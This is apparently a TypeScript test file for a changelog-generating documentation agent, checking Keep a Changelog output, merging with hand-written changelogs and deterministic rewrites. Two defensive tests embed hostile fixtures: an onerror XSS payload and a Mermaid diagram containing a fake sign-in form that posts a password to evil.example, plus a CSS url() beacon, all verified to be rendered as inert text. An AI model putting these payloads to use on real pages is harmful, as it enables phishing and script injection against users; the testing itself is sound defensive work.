import { rmSync } from 'node:fs';
import { buildSnapshot, type Snapshot } from '@chronicle/snapshot';
import { GitFixture } from '@chronicle/history/testing';
import { DOC_TIERS } from '@chronicle/contracts';
import { expectDocumentPasses, testAgent } from '../../testing/index.js';
import { readMarkdown } from '../../gate/index.js';
import { agentMetaOf } from '../../sdk/documentation-agent.decorator.js';
import { ChangelogAgent } from './changelog.agent.js';

const HAND_WRITTEN = [
  'Changelog',
  '=========',
  '',
  'Written by the maintainers.',
  '',
  '## Unreleased',
  '',
  '* Nothing yet, but soon: see #77 and `removedHelper()`.',
  '',
  '## 1.0.0 - 2024-01-01',
  '* First release, thanks to [Grace](https://github.com/acme/widgets/pull/99).',
  '',
].join('\n');

describe('ChangelogAgent', () => {
  let repo: GitFixture;
  afterEach(() => repo?.remove());

  function history(withFile: boolean): GitFixture {
    repo = new GitFixture();
    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', ...(withFile ? { 'CHANGELOG.md': HAND_WRITTEN } : {}) });
    repo.tag('v1.0.0');
    repo.commit('fix: crash on `emptyPath` for <Select> (#2)', { 'src/router.ts': 'export const a = 2;\n' });
    repo.tag('v1.1.0');
    repo.commit('feat: wildcard routes (#3)', { 'src/router.ts': 'export const a = 3;\n' });
    return repo;
  }

  it('is marked as the changelog agent for every tier', () => {
    expect(agentMetaOf(ChangelogAgent)).toMatchObject({ id: 'changelog', docType: 'changelog', version: '1.4.0' });
    expect(agentMetaOf(ChangelogAgent)?.tiers).toEqual(DOC_TIERS.changelog);
  });

  it('writes the history engine\'s releases in Keep a Changelog form, with an index, and passes the gate', async () => {
    const snapshot = await buildSnapshot(history(false).dir);
    const result = await testAgent(ChangelogAgent, snapshot);
    expectDocumentPasses(result);
    expect(result.coverage.items.map((item) => item.mention)).toEqual(['Unreleased', 'v1.1.0', 'v1.0.0']);
    expect(result.markdown).toContain('Releases: [Unreleased](#unreleased), [v1.1.0](#110---2024-01-01), [v1.0.0](#100---2024-01-01).');
    expect(result.markdown).toContain('## [1.1.0] - 2024-01-01\n\n### Fixed\n\n- Crash on emptyPath for \\<Select\\> (#2)');
    expect(result.markdown).toContain('### Added\n\n- Wildcard routes (#3)');
  });

  it('merges into the repository\'s changelog, keeping its text as written', async () => {
    const snapshot: Snapshot = await buildSnapshot(history(true).dir);
    const result = await testAgent(ChangelogAgent, snapshot);
    expectDocumentPasses(result);
    const { markdown } = result;
    expect(markdown.startsWith('# Changelog\n\n')).toBe(true);
    expect(markdown).toContain('Written by the maintainers.');
    // The maintainers' words are theirs, not the document's claims: names the snapshot cannot confirm stay as written.
    expect(markdown).toContain('* Nothing yet, but soon: see #77 and `removedHelper()`.');
    expect(markdown).toContain('* First release, thanks to [Grace](https://github.com/acme/widgets/pull/99).');
    expect(markdown).toContain('## [1.1.0] - 2024-01-01');
    // The maintainers' Unreleased text stays; the history's unreleased items are not mixed into it.
    expect(markdown).not.toContain('Wildcard routes');
    expect(markdown.indexOf('## [1.1.0]')).toBeLessThan(markdown.indexOf('## 1.0.0 - 2024-01-01'));
    expect(markdown).toContain("The repository's own `CHANGELOG.md` is kept as written");
  });

  it('keeps a changelog\'s Markdown verbatim, fills its one Unreleased section and lists no item twice', async () => {
    const kept = [
      '## [1.0.0] - 2024-01-01',
      '',
      '### Added',
      '',
      '- The `createRouter()` helper, see [#12](https://github.com/acme/widgets/pull/12) and the [guide][guide]',
      '  - nested: *emphasis*, **strong**, `router.match(path)` and a_snake_case word',
      '    1. deeper still, with <https://example.com/a_b>',
      '',
      '> Upgrading? Read [the notes](https://example.com/notes#v1).',
    ].join('\n');
    const definitions = '[Unreleased]: https://github.com/acme/widgets/compare/v1.0.0...HEAD\n[1.0.0]: https://github.com/acme/widgets/releases/tag/v1.0.0\n[guide]: https://example.com/guide';
    const file = (unreleased: string[]) => ['# Changelog', '', 'Written by hand.', '', '## [Unreleased]', '', ...unreleased, kept, '', '<img src=x onerror=alert(1)>', '', definitions, ''].join('\n');
    repo = new GitFixture();
    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', 'CHANGELOG.md': file([]) });
    repo.tag('v1.0.0');
    // The maintainers wrote this change under Unreleased, then tagged v1.1.0 without moving it.
    repo.commit('feat: wildcard routes (#3)', { 'src/router.ts': 'export const a = 3;\n', 'CHANGELOG.md': file(['- Wildcard routes ([#3](https://github.com/acme/widgets/pull/3))', '']) });
    repo.tag('v1.1.0');
    repo.commit('fix: empty paths (#4)', { 'src/router.ts': 'export const a = 4;\n', 'CHANGELOG.md': file(['- Wildcard routes ([#3](https://github.com/acme/widgets/pull/3))', '- Empty paths no longer crash', '']) });
    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
    expectDocumentPasses(result);
    const { markdown } = result;
    expect(markdown).toContain(kept);
    expect(markdown.trimEnd().endsWith(definitions)).toBe(true);
    expect(markdown.split('\n').filter((line) => /^#+ .*unreleased/i.test(line))).toEqual(['## [Unreleased]']);
    expect(markdown.match(/wildcard routes/gi)).toHaveLength(1);
    expect(markdown.match(/empty paths/gi)).toHaveLength(1);
    expect(markdown).toContain('## [1.1.0] - 2024-01-01\n\nIts changes are listed elsewhere in this changelog, as its authors wrote them.');
    // Raw HTML from the repository is shown, not run.
    expect(markdown).toContain('`<img src=x onerror=alert(1)>`');
    expect(markdown).not.toMatch(/^<img/m);
  }, 120_000);

  it("keeps the repository's Mermaid diagrams as their source, never as diagrams to draw", async () => {
    const hostile = [
      '# Changelog',
      '',
      '## 1.0.0 - 2024-01-01',
      '',
      '```mermaid',
      'flowchart LR',
      '  A["<form action=https://evil.example/><input name=password>SESSION EXPIRED – sign in again</form>"] --> B',
      '  click A href "https://evil.example/login"',
      '```',
      '',
      '> ~~~ Mermaid title',
      "> %%{init: {'themeCSS': '.node { background: url(https://avatars.githubusercontent.com/u/1) }'}}%%",
      '> flowchart LR',
      '> ~~~',
      '',
    ].join('\n');
    repo = new GitFixture();
    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', 'CHANGELOG.md': hostile });
    repo.tag('v1.0.0');
    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
    const { markdown } = result;
    expect(readMarkdown(markdown, { lint: false }).inventory.mermaidBlocks).toEqual([]);
    expect(markdown).not.toMatch(/(?:```|~~~)\s*mermaid/i);
    // The source stays, as text.
    expect(markdown).toContain('```text\nflowchart LR\n');
    expect(markdown).toContain('click A href "https://evil.example/login"');
    expect(markdown).toContain('> ~~~text title');
  }, 120_000);

  it('writes the same bytes for the same facts, and the same again from its own output', async () => {
    const snapshot = await buildSnapshot(history(true).dir);
    const agent = new ChangelogAgent();
    const first = agent.write({ snapshot });
    expect(agent.write({ snapshot })).toBe(first);
    const again = { ...snapshot, project: { ...snapshot.project, changelog: { path: 'CHANGELOG.md', text: first } } };
    expect(agent.write({ snapshot: again })).toBe(first);
  });

  it('says so when the history has no release and nothing to list', async () => {
    repo = new GitFixture();
    repo.commit('docs: typo', { 'README.md': '# a\n' });
    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
    expectDocumentPasses(result);
    expect(result.markdown).toContain('the history has no release tag and no change worth listing yet.');
    rmSync(repo.dir, { recursive: true, force: true });
  });
});
